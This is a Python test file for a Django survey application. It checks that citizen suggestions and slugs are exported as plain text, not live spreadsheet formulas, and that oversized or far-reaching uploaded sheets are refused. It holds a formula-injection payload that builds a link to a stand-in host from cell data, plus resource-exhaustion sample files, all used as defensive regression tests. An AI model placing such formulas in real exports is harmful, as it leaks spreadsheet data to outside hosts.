"""Text that came from a citizen or a clerk is written as text in every file we produce, never as
a formula a spreadsheet would run (issue 16: a suggestion `=HYPERLINK(...)` became a live link);
and hostile files are refused on the import page and by `mpp ikm compute` (issue 16)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from mpp.catalog.models import Tenant
from mpp.core.tests.test_sheet_bounds import far_cell_file
from mpp.surveys.audit import compute_file, export_raw
from mpp.surveys.models import STANDARD_CODES, SurveyImport
from mpp.surveys.queries import Scope, period_of

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x"&B2,"Klik")'
Q4 = "kind=quarter&year=2026&n=4"


def answers(score: int) -> dict[str, int | None]:
    return dict.fromkeys(STANDARD_CODES, score)


def test_a_suggestion_written_as_a_formula_is_text_in_the_report_workbook(
    client, cast, monday, respond
):
    respond(answers(4), suggestion=FORMULA)
    client.force_login(cast.supervisor_mpp())

    response = client.get(f"/survei/hasil/unduh.xlsx?{Q4}")

    assert response.status_code == 200
    cell = load_workbook(io.BytesIO(response.content))["Saran"]["B2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert cell.quotePrefix  # editing the cell in Excel does not make it a formula either


def test_a_suggestion_imported_from_a_sheet_is_text_in_the_report_workbook(
    client, cast, monday, mall_mpp, django_capture_on_commit_callbacks
):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    data = (
        "tanggal,instansi,U1,U2,U3,U4,U5,U6,U7,U8,U9,saran\n"
        f"2026-11-30,disdukcapil,4,4,4,4,4,4,4,4,4,{quoted}\n"
    ).encode()
    client.force_login(cast.supervisor_mpp())
    with django_capture_on_commit_callbacks(execute=True):  # the import's background job runs
        imported = client.post(
            reverse("surveys:import", args=[mall_mpp.pk]),
            {"berkas": SimpleUploadedFile("lembar.csv", data)},
        )
    assert imported.status_code == 302
    assert SurveyImport.objects.get().rows == 1

    response = client.get(f"/survei/hasil/unduh.xlsx?{Q4}")

    cell = load_workbook(io.BytesIO(response.content))["Saran"]["B2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_a_slug_that_starts_like_a_formula_is_quoted_in_the_audit_csv_and_read_back(
    kukar, monday, respond
):
    tenant = Tenant.objects.get(slug="disdukcapil")
    tenant.slug = "-disdukcapil"
    tenant.save(update_fields=["slug"])
    respond(answers(4), tenant=tenant)

    archive = zipfile.ZipFile(
        io.BytesIO(export_raw(Scope(region=kukar), period_of("month", 2026, 11)))
    )
    data = archive.read("responses.csv")

    (row,) = csv.DictReader(io.StringIO(data.decode()))
    assert row["tenant"] == "'-disdukcapil"
    assert row["U1"] == "4"  # numbers stay numbers
    assert list(compute_file(data, by="tenant")) == ["-disdukcapil"]


def test_the_far_cell_file_is_refused_on_the_import_page_naming_the_limit(
    client, cast, monday, mall_mpp, django_capture_on_commit_callbacks
):
    client.force_login(cast.supervisor_mpp())

    with django_capture_on_commit_callbacks(execute=True):  # the import's background job runs
        asked = client.post(
            reverse("surveys:import", args=[mall_mpp.pk]),
            {"berkas": SimpleUploadedFile("lembar.xlsx", far_cell_file())},
        )
    response = client.get(asked["Location"])  # the job's outcome on the import page

    assert response.context["state"]["status"] == "done"
    assert response.context["errors"]
    assert (
        "Berkas terlalu besar: lembar kerja menjangkau A1:XFD100000 (1.638.400.000 sel), paling "
        "banyak 2.000.000 sel."
    ) in response.content.decode()
    assert SurveyImport.objects.count() == 0


def test_a_request_past_the_upload_limit_is_refused_before_it_is_read(
    client, cast, monday, mall_mpp, settings
):
    settings.MPP_UPLOAD_MAX_BYTES = 10_000
    client.force_login(cast.supervisor_mpp())

    response = client.post(
        reverse("surveys:import", args=[mall_mpp.pk]),
        {"berkas": SimpleUploadedFile("lembar.csv", b"x" * 20_000)},
    )

    assert response.status_code == 413
    assert SurveyImport.objects.count() == 0


def test_ikm_compute_refuses_a_csv_with_one_huge_line_and_exits_2(tmp_path: Path):
    """The command as an auditor runs it: the message on stderr, exit code 2, no signal."""
    path = tmp_path / "responses.csv"
    path.write_bytes(b"U1,U2,U3,U4,U5,U6,U7,U8,U9\n" + b"4," * 500_000 + b"4\n")
    mpp = Path(sys.executable).with_name("mpp")
    env = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}

    done = subprocess.run(
        [str(mpp), "ikm", "compute", str(path)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )

    assert done.returncode == 2
    assert (
        "Berkas terlalu besar: baris 2 lebih dari 65.536 bita, paling banyak 65.536 bita per baris."
    ) in done.stderr
